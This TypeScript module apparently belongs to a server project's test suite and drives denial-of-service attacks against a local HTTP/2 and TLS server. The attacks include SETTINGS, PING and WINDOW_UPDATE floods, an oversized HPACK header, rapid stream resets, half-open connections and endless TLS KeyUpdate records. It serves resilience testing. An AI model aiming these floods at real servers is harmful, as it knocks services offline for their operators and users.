import { connect as connectTcp } from 'node:net';
import { connect } from 'node:tls';
import {
  END_HEADERS,
  END_STREAM,
  fieldBlock,
  frame,
  GET,
  type RawHttp2,
  rawHttp2,
  TYPES,
} from '../test/support/http2-raw.ts';
import type { Trio } from '../test/support/identity-files.ts';
import { tlsRecords } from '../test/support/tls-records.ts';

/** Connections that one attacker has at once. */
const AT_ONCE = 32;
/** Frames in one write. */
const BATCH = 64;
const forever = { teardown() {} };

const many = (one: Buffer) => Buffer.concat(Array.from({ length: BATCH }, () => one));

/** What is sent again and again over HTTP/2, on a new connection whenever one was closed. */
const FRAMES = {
  'X9 SETTINGS': () => many(frame(TYPES.SETTINGS, 0, 0)),
  'X10 PING': () => many(frame(TYPES.PING, 0, 0, Buffer.alloc(8))),
  'X11 WINDOW_UPDATE': () => many(frame(TYPES.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]))),
  'X8 HPACK': (stream: number) =>
    frame(
      TYPES.HEADERS,
      END_HEADERS | END_STREAM,
      stream,
      Buffer.concat([
        fieldBlock(GET),
        Buffer.from([0x40, 1, 0x78, 127, 0xc0, 0x1d]),
        Buffer.alloc(127 + 0x40 + 0x1d * 128, 'y'),
        Buffer.alloc(8_000, 0xbe),
      ]),
    ),
  'X5 resets': (stream: number) =>
    Buffer.concat([
      frame(TYPES.HEADERS, END_HEADERS | END_STREAM, stream, fieldBlock(GET)),
      frame(TYPES.RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])),
    ]),
} as const;

const OTHERS = {
  'X19 half-open': (port: number) => oneAfterTheOther(() => halfOpen(port)),
  'X20 no certificate': (port: number) => oneAfterTheOther(() => handshake(port)),
  'X22 KeyUpdate': async (port: number, identity: Trio) => {
    const client = await tlsRecords(forever, port, identity);
    while (!client.over) await client.send(Buffer.concat(Array.from({ length: BATCH }, () => client.keyUpdate())));
  },
} as const;

export type AttackName = keyof typeof FRAMES | keyof typeof OTHERS;
export const ATTACKS = [...Object.keys(FRAMES), ...Object.keys(OTHERS)] as readonly AttackName[];

/** Attacks until the process ends. */
export async function attack(name: AttackName, port: number, identity: Trio): Promise<void> {
  for (;;) {
    if (name in OTHERS) await OTHERS[name as keyof typeof OTHERS](port, identity);
    else await flood(await rawHttp2(forever, port, identity), FRAMES[name as keyof typeof FRAMES]);
  }
}

async function flood(client: RawHttp2, next: (stream: number) => Buffer): Promise<void> {
  for (let stream = 1; !client.over; stream += 2) await client.sent(next(stream));
  client.socket.destroy();
}

async function oneAfterTheOther(work: () => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: AT_ONCE }, async () => {
      for (let i = 0; i < 100; i++) await work();
    }),
  );
}

/** One that says a byte of a ClientHello, and stays. */
function halfOpen(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connectTcp({ port, host: '127.0.0.1' });
    socket.on('error', () => resolve());
    socket.once('connect', () => {
      socket.write(Buffer.from([22]));
      // Some thousands are open at once.
      setTimeout(resolve, 20);
    });
    socket.resume();
  });
}

function handshake(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false });
    socket.on('error', () => {});
    socket.once('close', () => resolve());
    socket.resume();
  });
}
